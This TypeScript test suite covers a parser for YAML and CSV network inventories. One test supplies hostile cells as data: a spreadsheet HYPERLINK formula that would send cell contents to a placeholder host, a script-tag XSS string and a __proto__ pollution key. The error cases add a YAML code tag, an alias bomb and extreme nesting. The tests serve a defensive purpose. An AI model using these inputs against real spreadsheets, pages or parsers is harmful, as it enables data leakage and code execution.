import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { assemble } from "../../../src/graph/index.js";
import { type EstateNode, InputError } from "../../../src/model/index.js";
import { isInventoryFile, listingsOf, readInventory } from "../../../src/sources/inventory/index.js";

const FORMAT = readFileSync(join(import.meta.dirname, "../../../src/sources/inventory/FORMAT.md"), "utf8");
const EXAMPLE = /```yaml\n([\s\S]*?)```/.exec(FORMAT)?.[1] ?? "";

const yaml = (text: string) => readInventory([{ path: "dc/inventory.yaml", text }]);

/** The same small estate in tables. */
const CSV = [
  {
    path: "dc/sites.csv",
    text: "id;name;country;owner;ranges\nfra1;Frankfurt data centre;DE;infrastructure@example.org;10.20.0.0/16 2001:db8:20::/48\n",
  },
  { path: "dc/networks.csv", text: "id,site,ranges\nfra1-dmz,fra1,10.20.8.0/24\n" },
  {
    path: "dc/hosts.csv",
    text: "\ufeffid,site,name,owner,platform,nftables,tag:data-class\r\nfw-1,fra1,edge firewall,network@example.org,Debian 12,fw-1.json,internal\r\n",
  },
  {
    path: "dc/interfaces.csv",
    text: "host,name,description,addresses,network,mac\nfw-1,eth0,uplink,203.0.113.10 2001:db8:20::1,,\nfw-1,eth1,,10.20.8.1/24,fra1-dmz,02:42:ac:11:00:02\n",
  },
];

function facts(nodes: readonly EstateNode[]) {
  return nodes
    .map(({ id, kind, label, aliases, scope, tags, is }) => ({ id, kind, label, aliases, scope, tags, is }))
    .sort((a, b) => (a.id < b.id ? -1 : 1));
}

describe("an inventory", () => {
  it("is the estate that its documentation shows", () => {
    const { nodes, edges, gaps } = yaml(EXAMPLE);
    expect(gaps).toEqual([]);
    expect(facts(nodes).map(({ id, label, is }) => ({ id, label, is }))).toMatchObject([
      {
        id: "inventory:host/fw-1",
        label: "edge firewall (fw-1)",
        is: {
          addresses: ["10.20.8.1", "2001:db8:20::1", "203.0.113.10"],
          publicAddresses: ["2001:db8:20::1", "203.0.113.10"],
          owner: "network@example.org",
          platform: "Debian 12",
          state: "running",
        },
      },
      {
        id: "inventory:interface/fw-1/eth0",
        label: "fw-1 eth0",
        is: { addresses: ["2001:db8:20::1", "203.0.113.10"], description: "uplink" },
      },
      { id: "inventory:interface/fw-1/eth1", is: { addresses: ["10.20.8.1"], publicAddresses: [] } },
      { id: "inventory:network/fra1-dmz", is: { cidrs: ["10.20.8.0/24"] } },
      {
        id: "inventory:site/fra1",
        label: "Frankfurt data centre (fra1)",
        is: { country: "DE", cidrs: ["10.20.0.0/16", "2001:db8:20::/48"] },
      },
    ]);
    expect(edges.map(({ from, relation, to }) => `${from} ${relation} ${to}`).sort()).toEqual([
      "inventory:host/fw-1 site inventory:site/fra1",
      "inventory:interface/fw-1/eth0 host inventory:host/fw-1",
      "inventory:interface/fw-1/eth0 site inventory:site/fra1",
      "inventory:interface/fw-1/eth1 host inventory:host/fw-1",
      "inventory:interface/fw-1/eth1 network inventory:network/fra1-dmz",
      "inventory:interface/fw-1/eth1 site inventory:site/fra1",
      "inventory:network/fra1-dmz site inventory:site/fra1",
    ]);
  });

  it("is the same in CSV as in YAML, whatever order its files come in", () => {
    const expected = yaml(EXAMPLE);
    for (const files of [CSV, [...CSV].reverse()]) {
      const got = readInventory(files);
      expect(facts(got.nodes)).toEqual(facts(expected.nodes));
      expect(got.edges.length).toBe(expected.edges.length);
    }
  });

  it("joins into one graph without a gap", () => {
    const graph = assemble([yaml(EXAMPLE)]);
    expect(graph.gaps).toEqual([]);
    expect(graph.step("inventory:site/fra1", "hosts")?.ids).toEqual(["inventory:host/fw-1"]);
    expect(graph.step("inventory:host/fw-1", "interfaces")?.ids).toHaveLength(2);
  });

  it("keeps the line of every entry", () => {
    const lines = new Map(
      yaml(EXAMPLE).nodes.map(({ id, at }) => [id, EXAMPLE.split("\n")[(at.line ?? 0) - 1]?.trim()]),
    );
    expect(lines.get("inventory:site/fra1")).toBe("- id: fra1");
    expect(lines.get("inventory:host/fw-1")).toBe("- id: fw-1");
    expect(lines.get("inventory:interface/fw-1/eth1")).toBe("- name: eth1");
    const rows = readInventory(CSV).nodes.find(({ id }) => id === "inventory:interface/fw-1/eth1")?.at;
    expect(rows).toMatchObject({ uri: "dc/interfaces.csv", line: 3 });
  });

  it("says whose a listing is, by a path beside the inventory", () => {
    const expected = new Map([["dc/fw-1.json", { host: "fw-1", site: "fra1" }]]);
    expect(listingsOf(CSV)).toEqual(expected);
    expect(listingsOf([{ path: "dc/inventory.yaml", text: EXAMPLE }])).toEqual(expected);
  });

  it("is told from other YAML by its first member, from other CSV by its name", () => {
    expect(isInventoryFile({ path: "a.yaml", text: "# ours\ninventory: 1\n" })).toBe(true);
    expect(isInventoryFile({ path: "a.yaml", text: "version: 1\nsources: {inventory: [x]}\n" })).toBe(false);
    expect(isInventoryFile({ path: "x/hosts.csv", text: "" })).toBe(true);
    expect(isInventoryFile({ path: "x/myhosts.csv", text: "" })).toBe(false);
  });

  it("writes blocks and addresses canonically", () => {
    const { nodes } = yaml(
      "inventory: 1\nsites: [{id: a, ranges: [10.1.2.3/8, 2001:DB8:0::1/32]}]\nhosts: [{id: h, addresses: [2001:DB8::0001]}]\n",
    );
    expect(nodes.map(({ is }) => is)).toMatchObject([
      { cidrs: ["10.0.0.0/8", "2001:db8::/32"] },
      { addresses: ["2001:db8::1"] },
    ]);
  });

  it("takes hostile cells for what they are: data", () => {
    const formula = '=HYPERLINK("http://x/?"&A1)';
    const text = `id,name,owner,tag:__proto__\nh1,"${formula.replaceAll('"', '""')}","<script>alert(1)</script>",polluted\n`;
    const [node] = readInventory([{ path: "hosts.csv", text }]).nodes;
    expect((node as EstateNode<"host">).is).toMatchObject({
      name: formula,
      owner: "<script>alert(1)</script>",
    });
    expect(Object.entries(node?.tags ?? {})).toEqual([["__proto__", "polluted"]]);
    expect(({} as Record<string, unknown>)["polluted"]).toBeUndefined();
  });
});

describe("what an inventory says against itself is a gap", () => {
  const gaps = (text: string) => yaml(text).gaps.map(({ reason, message }) => `${reason}: ${message}`);
  const SITES =
    "inventory: 1\nsites:\n - {id: a, ranges: [10.1.0.0/16]}\n - {id: b, ranges: [10.2.0.0/16]}\n";

  it("where two sites claim the same addresses", () => {
    expect(
      gaps("inventory: 1\nsites: [{id: a, ranges: [10.0.0.0/8]}, {id: b, ranges: [10.2.0.0/16]}]\n"),
    ).toEqual(["conflict: The sites a and b claim the same addresses"]);
  });

  it("where a host has an address of another site, or a private one of none", () => {
    expect(
      gaps(
        `${SITES}hosts:\n - {id: h, site: a, addresses: [10.2.0.1, 10.1.0.1]}\n - {id: i, site: a, interfaces: [{name: e, addresses: [fd00::1]}]}\n`,
      ),
    ).toEqual([
      "conflict: h is at site a, and its address 10.2.0.1 is in the ranges of site b",
      "conflict: i is at site a, and its address fd00::1 is in no site's ranges",
    ]);
  });

  it("but not where an uplink has its provider's address, or a site told no ranges", () => {
    expect(gaps(`${SITES}hosts:\n - {id: h, site: a, addresses: [203.0.113.9, 2a00::1]}\n`)).toEqual([]);
    expect(
      gaps("inventory: 1\nsites: [{id: a}]\nhosts: [{id: h, site: a, addresses: [10.0.0.1]}]\n"),
    ).toEqual([]);
  });
});

describe("an inventory that cannot be used", () => {
  const cases: readonly (readonly [
    what: string,
    path: string,
    text: string,
    message: RegExp,
    place: object,
  ])[] = [
    [
      "broken YAML",
      "i.yaml",
      "inventory: 1\nsites: [\n  {id: a\n",
      /not valid YAML/,
      { line: expect.any(Number) },
    ],
    ["a key twice", "i.yaml", "inventory: 1\nsites: []\nsites: []\n", /unique/, { line: 3 }],
    ["a tag of its own", "i.yaml", "inventory: 1\nsites:\n  - id: !!js/function 'x'\n", /tag/, { line: 3 }],
    ["another version", "i.yaml", "inventory: 2\n", /must be 1/, { line: 1 }],
    [
      "a member that is not known",
      "i.yaml",
      "inventory: 1\nsites:\n  - id: a\n    contry: DE\n",
      /unknown member "contry"/,
      { line: 3 },
    ],
    [
      "an id that is missing",
      "i.yaml",
      "inventory: 1\nhosts:\n  - name: x\n",
      /lacks the member "id"/,
      { line: 3 },
    ],
    [
      "a number for a name",
      "i.yaml",
      "inventory: 1\nhosts:\n  - id: a\n    owner: 7\n",
      /owner must be a string/,
      { line: 4 },
    ],
    [
      "a country that is none",
      "i.yaml",
      "inventory: 1\nsites:\n  - id: a\n    country: ZZ\n",
      /ZZ is no country/,
      { line: 4 },
    ],
    [
      "a block that is none",
      "i.yaml",
      "inventory: 1\nsites:\n  - id: a\n    ranges:\n      - 10.0.0.0/8\n      - 10.0.0.0/33\n",
      /"10.0.0.0\/33" is no CIDR block/,
      { line: 6 },
    ],
    [
      "an address that is none",
      "i.yaml",
      "inventory: 1\nhosts:\n  - id: a\n    interfaces:\n      - name: e\n        addresses: [10.0.0.256]\n",
      /no address/,
      { line: 6 },
    ],
    [
      "a site that is not there",
      "i.yaml",
      "inventory: 1\nhosts:\n  - id: a\n    site: nowhere\n",
      /no site "nowhere"/,
      { line: 4 },
    ],
    [
      "an id twice",
      "i.yaml",
      "inventory: 1\nhosts:\n  - id: a\n  - id: a\n",
      /host a is there twice, first at i.yaml:3/,
      { line: 4 },
    ],
    [
      "aliases without end",
      "i.yaml",
      `inventory: 1\na: &a [x,x,x,x,x,x,x,x,x]\n${[..."bcdefg"].map((key, at) => `${key}: &${key} [${Array(9).fill(`*${"abcdef"[at]}`).join(",")}]`).join("\n")}\n`,
      /aliases/,
      {},
    ],
    [
      "nesting without end",
      "i.yaml",
      `inventory: ${"[".repeat(20_000)}`,
      /nests too deeply|not valid YAML/,
      {},
    ],
    [
      "a column that is not known",
      "hosts.csv",
      "id,colour\na,red\n",
      /no column "colour" in hosts.csv/,
      { line: 1, column: 2 },
    ],
    ["a column twice", "hosts.csv", "id,id\na,b\n", /there twice/, { line: 1, column: 2 }],
    ["a row of another width", "hosts.csv", "id,name\na,b\nc\n", /not valid CSV/, { line: 3 }],
    [
      "a quote that is not closed",
      "hosts.csv",
      'id,name\na,"b\n',
      /not valid CSV/,
      { line: expect.any(Number) },
    ],
    ["no header", "hosts.csv", "", /no header/, { line: 1 }],
    [
      "a bad cell behind a cell with line breaks",
      "hosts.csv",
      'id,name,addresses\na,"two\nlines",10.0.0.1\nb,x,10.0.0.256\n',
      /no address/,
      { line: 4, column: 3 },
    ],
    ["an interface without host", "interfaces.csv", "host,name\n,eth0\n", /no host/, { line: 2 }],
    ["a table of another name", "servers.csv", "id\na\n", /name does not say/, {}],
  ];

  for (const [what, path, text, message, place] of cases) {
    it(`says where and what to do: ${what}`, () => {
      let error: unknown;
      try {
        readInventory([{ path, text }]);
      } catch (caught) {
        error = caught;
      }
      expect(error).toBeInstanceOf(InputError);
      const next = expect.stringMatching(/\w/);
      expect(error).toMatchObject({
        message: expect.stringMatching(message),
        place: { path, ...place },
        next,
      });
    });
  }
});
